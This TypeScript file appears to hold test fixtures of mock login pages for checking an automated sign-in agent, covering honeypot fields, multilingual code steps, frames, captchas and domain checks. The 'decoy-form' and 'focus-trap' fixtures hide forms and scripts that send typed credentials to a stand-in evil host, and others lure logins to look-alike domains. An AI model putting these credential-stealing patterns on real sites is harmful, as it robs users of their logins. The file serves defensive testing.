import {
  code,
  codeStep,
  evil,
  form,
  page,
  password,
  plain,
  type Reply,
  redirect,
  type Site,
  user,
  welcome,
} from './site.ts'

const login = page(`<h1>Sign in</h1><!--error-->${form()}`)
const then = (path: string) => plain(login, { after: () => redirect(path) })
const script = (text: string) => `<script>${text}</script>`
const trap: Reply = { status: 400, html: 'trap' }
/** A form that is submitted only by script. */
const scripted = (code: string, { button = '<button id="go">Log in</button>', more = '' } = {}) =>
  page(
    `<h1>Log in</h1><div id="main"><input id="a" placeholder="Email"><input id="b" type="password" placeholder="Password">${button}</div>${more}${script(code)}`,
  )
const post = (values: string, failed = '') =>
  `fetch('/login', { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: new URLSearchParams(${values}) }).then((answer) => { if (answer.url.endsWith('/account')) location = '/account'; else { ${failed} } })`

/** Hidden fields, in the ways that sites hide them. Only programs fill them in. */
const honeyPots = [
  'opacity:0;position:absolute',
  'height:0;overflow:hidden',
  'position:absolute;clip-path:inset(50%)',
  'position:absolute;transform:translateX(-9999px)',
  'visibility:hidden',
  'position:absolute;width:1px;height:1px;overflow:hidden',
]
  .map(
    (style, index) => `<div style="${style}"><label>Password <input type="password" name="trap${index}"></label></div>`,
  )
  .join('')

const isTrapped = (sent: URLSearchParams) => [...sent].some(([name, value]) => name.startsWith('trap') && value !== '')

/** A second factor in each language, with the kind of code that it asks for. */
const codeLanguages: readonly (readonly [lang: string, explanation: string, label: string, submit: string])[] = [
  ['de', 'Geben Sie den Code aus Ihrer Authenticator-App ein.', 'Bestätigungscode', 'Bestätigen'],
  ['fr', 'Saisissez le code envoyé par SMS au •• •• 42.', 'Code de vérification', 'Valider'],
  ['es', 'Introduce el código que te hemos enviado por SMS.', 'Código de verificación', 'Verificar'],
  ['pt', 'Digite o código do seu aplicativo autenticador.', 'Código de verificação', 'Confirmar'],
  ['it', 'Inserisci il codice che ti abbiamo inviato via SMS.', 'Codice di verifica', 'Conferma'],
  ['pl', 'Wpisz kod z wiadomości SMS.', 'Kod weryfikacyjny', 'Potwierdź'],
  ['ru', 'Введите код из СМС.', 'Код подтверждения', 'Подтвердить'],
  ['tr', 'Telefonunuza gönderilen SMS kodunu girin.', 'Doğrulama kodu', 'Doğrula'],
  ['ja', 'SMSで送信された認証コードを入力してください。', '認証コード', '確認'],
  ['zh', '请输入短信验证码', '验证码', '确认'],
  ['ko', '문자로 받은 인증번호를 입력하세요.', '인증번호', '확인'],
  ['ar', 'أدخل رمز التحقق المرسل عبر رسالة نصية', 'رمز التحقق', 'تأكيد'],
]

export const codeLanguageSites: readonly Site[] = codeLanguages.map(([lang, explanation, label, submit]) => ({
  name: `code-${lang}`,
  pages: {
    ...then('/code'),
    ...codeStep(explanation, `<label>${label} <input name="c"></label>`, { submit, title: label }),
  },
  ends: 'logged_in',
}))

/** Unusual pages that mislead programs. */
export const fieldSites: readonly Site[] = [
  {
    name: 'honey-pots',
    pages: plain(page(`<h1>Log in</h1><!--error-->${form().replace('<label', `${honeyPots}<label`)}`), {
      after: ({ sent }) => (isTrapped(sent) ? trap : welcome()),
    }),
    ends: 'logged_in',
  },
  {
    name: 'decoy-form',
    pages: plain(
      page(
        `<div style="opacity:0;pointer-events:none;position:absolute;top:0"><form method="post" action="http://${evil}/take"><input name="user" autocomplete="username"><input type="password" name="password" autocomplete="current-password"><button>Log in</button></form></div><h1>Log in</h1>${form()}`,
      ),
    ),
    ends: 'logged_in',
  },
  {
    name: 'shown-password',
    pages: plain(
      page(
        `<h1>Log in</h1>${form().replace('<button', '<button type="button" aria-label="Hide password" onclick="p.type=\'password\'">👁</button><button').replace('type="password"', 'type="text"')}`,
      ),
    ),
    ends: 'logged_in',
  },
  {
    name: 'blur-enables',
    pages: plain(
      scripted(
        `b.addEventListener('blur', () => setTimeout(() => { go.disabled = !(a.value && b.value) }, 300)); go.onclick = () => ${post('{ user: a.value, password: b.value }')}`,
        { button: '<button id="go" disabled>Log in</button>' },
      ),
    ),
    ends: 'logged_in',
  },
  {
    name: 'focus-trap',
    pages: plain(
      page(
        `<form action="http://${evil}/take"><input id="steal" name="q" autofocus></form><h1>Log in</h1>${form()}${script(`document.addEventListener('focusin', (event) => { if (event.target.id !== 'steal') steal.focus() }); setInterval(() => steal.focus(), 30); steal.addEventListener('input', () => fetch('http://${evil}/take?q=' + encodeURIComponent(steal.value), { mode: 'no-cors' }))`)}`,
      ),
    ),
    ends: 'logged_in',
  },
  {
    name: 'toast',
    pages: plain(
      scripted(
        `go.onclick = () => ${post('{ user: a.value, password: b.value }', "toasts.innerHTML = '<div>Invalid email or password</div>'; setTimeout(() => toasts.innerHTML = '', 1500)")}`,
        { more: '<div aria-live="assertive" id="toasts"></div>' },
      ),
    ),
    passwords: ['Wrong-Donkey-8?', password],
    toldBefore: 'credentials_invalid',
    says: /Invalid email/,
    ends: 'logged_in',
  },
  {
    name: 'retry-after',
    pages: {
      ...plain(
        scripted(
          "go.onclick = () => fetch('/api', { method: 'POST', body: b.value }).then((answer) => { e.textContent = 'Too many attempts. Try again in ' + answer.headers.get('retry-after') + ' seconds.'; go.disabled = true })",
          { more: '<p id="e" role="status"></p>' },
        ),
      ),
      '/api': () => ({ status: 429, headers: { 'retry-after': '120' }, json: {} }),
    },
    ends: 'blocked',
    problem: 'rate_limited',
    says: /in 120 seconds/,
  },
  {
    name: 'nested-frames',
    allowed: ['widgets.test'],
    pages: {
      ...plain(page('<h1>Members</h1><iframe src="/outer" width="500" height="400"></iframe>')),
      '/outer': () => page('<iframe src="http://widgets.test/inner" width="450" height="350"></iframe>'),
      'widgets.test/inner': () =>
        page(form().replace('action="/login"', 'action="http://nested-frames.test/login" target="_top"')),
    },
    ends: 'logged_in',
  },
  {
    name: 'frame-in-foreign-frame',
    pages: {
      ...plain(page('<h1>Members</h1><iframe src="http://wrapper.test/wrap" width="500" height="400"></iframe>')),
      'wrapper.test/wrap': () =>
        page('<iframe src="http://frame-in-foreign-frame.test/inner" width="450" height="350"></iframe>'),
      '/inner': () => page(form()),
    },
    ends: 'error',
    problem: 'domain_not_allowed',
  },
  {
    name: 'tenant-first',
    allowed: ['acme.tenant-first.test'],
    pages: {
      '/': () => redirect('/start'),
      '/start': () =>
        page(
          '<h1>Sign in to your workspace</h1><form action="/go" method="post"><label>Workspace URL <input name="workspace" placeholder="your-workspace"></label><span>.tenant-first.test</span><button>Continue</button></form>',
        ),
      '/go': ({ sent }) =>
        sent.get('workspace') === 'acme' ? redirect('http://acme.tenant-first.test/login') : redirect('/start'),
      'acme.tenant-first.test/login': ({ method, sent }) =>
        method === 'GET' ? login : sent.get('password') === password ? welcome() : login,
      'acme.tenant-first.test/account': plain(login)['/account'] as Site['pages'][string],
    },
    values: { other: 'acme' },
    ends: 'logged_in',
  },
  {
    name: 'led-outside',
    pages: {
      ...plain(login),
      '/login': () => redirect('http://led-outside.test.evil.test/login'),
      'led-outside.test.evil.test/login': () => page(`<h1>Log in to led-outside.test</h1>${form()}`),
    },
    ends: 'error',
    problem: 'domain_not_allowed',
  },
  {
    name: 'look-alike',
    pages: {
      ...plain(page(`<h1>Log in</h1>${form().replace('/login', 'http://notlook-alike.test/login')}`)),
    },
    ends: 'error',
    problem: 'domain_not_allowed',
  },
  {
    name: 'to-subdomain',
    allowed: ['id.to-subdomain.test'],
    pages: {
      ...plain(login),
      '/login': () => redirect('http://id.to-subdomain.test/form'),
      'id.to-subdomain.test/form': () => page(`<h1>Log in</h1>${form().replace('/login', '/check')}`),
      'id.to-subdomain.test/check': ({ sent }) =>
        sent.get('password') === password ? redirect('http://to-subdomain.test/callback') : redirect('/form'),
      '/callback': () => welcome(),
    },
    ends: 'logged_in',
  },
  {
    name: 'sms-tab-first',
    pages: plain(
      page(
        `<h1>登录</h1><div role="tablist"><div role="tab" aria-selected="true">验证码登录</div><div role="tab" id="t" tabindex="0">密码登录</div></div><div id="one"><input placeholder="请输入手机号"><input placeholder="请输入验证码"><button type="button">获取验证码</button><button>登录</button></div><form id="two" method="post" action="/login" hidden><input name="user" placeholder="手机号/邮箱"><input name="password" type="password" placeholder="请输入密码"><button>登录</button></form>${script('t.onclick = () => { one.hidden = true; two.hidden = false }')}`,
        { lang: 'zh' },
      ),
    ),
    choices: ['method:password'],
    ends: 'logged_in',
  },
  {
    name: 'push-number',
    pages: {
      ...then('/wait'),
      '/wait': () =>
        page(
          `<h1>Approve sign-in request</h1><p>Open your Authenticator app, and enter the number shown to sign in.</p><div style="font-size:40px">42</div><a href="/other">I can't use my Authenticator app right now</a>${script("setInterval(async () => { if ((await (await fetch('/state')).text()).includes('yes')) location = '/done' }, 150)")}`,
        ),
      '/state': ({ memory }) => ({ json: { approved: memory.get('approved') === true ? 'yes' : 'no' } }),
      '/done': ({ memory }): Reply => (memory.get('approved') === true ? welcome() : redirect('/login')),
    },
    approve: (memory) => void memory.set('approved', true),
    says: /external_action.*42|42.*external_action/,
    ends: 'logged_in',
  },
  {
    name: 'passkey-asked',
    pages: plain(
      page(
        `<h1>Verifying it’s you…</h1><p>Complete sign-in using your passkey</p><button id="t">Try another way</button><ul id="l" hidden><li><button>Use your passkey</button></li><li><button id="w">Enter your password</button></li></ul><div id="f" hidden>${form()}</div>${script('navigator.credentials?.get({ publicKey: { challenge: new Uint8Array(16), rpId: location.hostname } }).catch(() => {}); t.onclick = () => { t.hidden = true; l.hidden = false }; w.onclick = () => { l.hidden = true; f.hidden = false }')}`,
      ),
    ),
    choices: ['password'],
    ends: 'logged_in',
  },
  {
    name: 'invisible-captcha',
    pages: {
      ...plain(
        page(
          `<h1>Log in</h1>${form()}<div class="grecaptcha-badge" style="width:256px;height:60px;position:fixed;bottom:14px;right:-186px;visibility:hidden"><iframe title="reCAPTCHA" src="/recaptcha/api2/anchor?size=invisible" width="256" height="60"></iframe><textarea name="g-recaptcha-response" hidden></textarea></div>`,
        ),
      ),
      '/recaptcha/api2/anchor': () => page('protected by reCAPTCHA'),
    },
    ends: 'logged_in',
  },
  {
    name: 'get-form',
    pages: {
      ...plain(login),
      '/login': ({ query }) =>
        query.get('password') === password
          ? welcome()
          : page(`<h1>Sign in</h1>${form().replace('method="post"', 'method="get"')}`),
    },
    ends: 'logged_in',
  },
  {
    name: 'div-button',
    pages: plain(
      scripted(`go.addEventListener('click', () => ${post('{ user: a.value, password: b.value }')})`, {
        button: '<div id="go" style="cursor:pointer;background:#06c;width:200px">Sign in</div>',
      }),
    ),
    ends: 'logged_in',
  },
  {
    name: 'security-question',
    pages: {
      ...then('/question'),
      '/question': ({ method, sent }) =>
        method === 'POST' && sent.get('answer') === 'Rex'
          ? welcome()
          : page(
              '<h1>Verify your identity</h1><form method="post"><label>What was the name of your first pet? <input name="answer" required></label><button>Continue</button></form>',
            ),
    },
    values: { other: 'Rex' },
    ends: 'logged_in',
  },
  {
    name: 'other-session',
    pages: {
      ...then('/conflict'),
      '/conflict': ({ method }) =>
        method === 'POST'
          ? welcome()
          : page(
              '<h1>You are signed in on another device</h1><p>Continue here to end the other session.</p><form method="post"><button>Continue here</button></form>',
            ),
    },
    choices: ['Continue'],
    ends: 'logged_in',
  },
  {
    name: 'not-you',
    pages: plain(
      page(
        `<h1>Welcome back</h1><p>${user} <a href="/switch">Not you?</a></p><form method="post" action="/login"><input type="hidden" name="user" value="${user}"><label>Password <input type="password" name="password"></label><label><input type="checkbox" name="keep"> Keep me signed in</label><button>Sign in</button></form>`,
      ),
    ),
    ends: 'logged_in',
  },
  {
    name: 'code-in-dialog',
    pages: {
      ...plain(
        scripted(
          "go.onclick = () => setTimeout(() => { d.hidden = false }, 300); v.onclick = () => fetch('/code', { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: new URLSearchParams({ user: a.value, password: b.value, c: c.value }) }).then((answer) => { location = answer.url })",
          {
            more: `<div id="d" role="dialog" aria-modal="true" hidden style="position:fixed;inset:20%;background:#fff"><h2>New device</h2><p>Enter the code that we e-mailed to a•••@example.com</p><input id="c" autocomplete="one-time-code" inputmode="numeric"><button id="v">Verify</button></div>`,
          },
        ),
      ),
      '/code': ({ sent }) =>
        sent.get('c') === code && sent.get('password') === password ? welcome() : redirect('/login'),
    },
    ends: 'logged_in',
  },
  {
    name: 'password-expired',
    pages: {
      ...then('/change'),
      '/change': () =>
        page(
          '<h1>Your password has expired</h1><p>Choose a new password to continue.</p><form method="post"><label>New password <input type="password" name="n" autocomplete="new-password"></label><label>Confirm new password <input type="password" name="m" autocomplete="new-password"></label><button>Change password</button></form>',
        ),
    },
    ends: 'error',
    problem: 'session_expired',
  },
  {
    name: 'cookie-frame',
    pages: {
      ...plain(
        page(
          `<div id="wall" style="position:fixed;inset:0;background:#fff;z-index:99"><iframe src="/consent" title="Consent" style="width:100%;height:100%"></iframe></div><h1>Log in</h1>${form()}${script("addEventListener('message', () => wall.remove())")}`,
        ),
      ),
      '/consent': () =>
        page(
          '<div role="dialog"><p>We and our partners use cookies to measure advertising.</p><button onclick="parent.postMessage(1, \'*\')">Reject all</button><button onclick="parent.postMessage(1, \'*\')">Accept all</button></div>',
        ),
    },
    ends: 'logged_in',
  },
]

/** Its script never ends, so the page cannot be read. */
export const endless: Site = {
  name: 'endless',
  pages: { '/': () => page(`<h1>Log in</h1>${form()}<script>setTimeout(() => { for (;;); })</script>`) },
  ends: 'loading',
}
